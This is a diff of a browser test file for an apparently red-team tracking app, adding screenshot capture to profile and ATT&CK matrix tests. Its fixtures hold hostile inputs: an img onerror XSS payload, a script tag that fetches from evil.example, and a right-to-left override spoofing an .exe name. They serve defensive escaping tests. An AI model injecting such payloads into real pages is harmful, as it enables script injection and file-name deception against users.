@@ -9,6 +9,7 @@ import { syncTtp } from '../../src/modules/catalog/service.ts';
 import { advance, createTest, team, type Team } from '../helpers/test-runs.ts';
 import { expectNoMisconduct, launchBrowser, openContext, seriousViolations, signIn } from './browser.ts';
 
+const SCREENSHOTS = new URL('../../docs/screenshots/', import.meta.url).pathname;
 const BIDI = '\u202Egnp.exe\u202C';
 const HOSTILE_ACTOR = `<img src=x onerror=alert(1)> APT ${BIDI}`;
 const HOSTILE_TEST = `<script>fetch("https://evil.example/")</script> lateral ${BIDI}`;
@@ -114,6 +115,7 @@ describe('profile', () => {
     expect(key).toMatch(/^svc_[0-9a-f]{64}$/);
     await page.getByRole('button', { name: 'Copy the key' }).click();
     await page.getByRole('status').filter({ hasText: 'Copied to the clipboard.' }).waitFor();
+    await page.screenshot({ path: `${SCREENSHOTS}profile.png`, fullPage: true });
     expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(key);
     const created = await app.services.prisma.apiKey.findFirstOrThrow({ where: { userId: t.red_lead.id, name: HOSTILE_KEY } });
     expect(created.revokedAt).toBeNull();
@@ -214,6 +216,7 @@ describe('matrix overlays', () => {
     await expect.poll(() => matrixCell(page, 'T1003').getAttribute('class')).toContain('changed');
     expect(await matrixCell(page, 'T1003').textContent()).toContain('changed: Not evaluated → Validated');
     expect(await matrixCell(page, 'T1059').getAttribute('class')).not.toContain('changed');
+    await page.screenshot({ path: `${SCREENSHOTS}matrix-overlays.png` });
 
     await page.getByLabel('Colour by').selectOption('confidence');
     await page.getByRole('list', { name: 'Legend' }).getByText('Confidence 75–100').waitFor();
